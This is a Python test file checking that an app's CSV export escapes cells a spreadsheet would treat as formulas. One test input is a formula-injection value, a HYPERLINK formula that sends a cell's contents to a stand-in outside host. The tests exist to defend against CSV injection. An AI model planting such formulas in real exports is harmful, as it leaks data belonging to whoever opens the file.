"""Texts in the CSV files the app writes are shown by a spreadsheet as text, never run as formulas."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from mendwell.text import as_cell
from mendwell.views import spreadsheet_csv


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_a_spreadsheet_would_run_begins_with_an_apostrophe(start: str) -> None:
    assert as_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


@pytest.mark.parametrize("text", ["Ann", "a=b", " =SUM(1)", "", "'=already text"])
def test_any_other_text_is_left_as_it_is(text: str) -> None:
    assert as_cell(text) == text


def test_the_numbers_of_a_chart_hold_a_hostile_name_as_text() -> None:
    """A partner's name is a column's name and a cell in the numbers behind every chart; numbers stay numbers."""
    table = pd.DataFrame({"Partner": ['=HYPERLINK("https://x.example/?"&A2,"open")', "Ann"], "Score": [-1.5, 2.0],
                          "@Ben": ["-", None]})  # fmt: skip
    rows = list(csv.reader(io.StringIO(spreadsheet_csv(table).decode("utf-8"))))
    assert rows == [
        ["Partner", "Score", "'@Ben"],
        ['\'=HYPERLINK("https://x.example/?"&A2,"open")', "-1.5", "'-"],
        ["Ann", "2.0", ""],
    ]
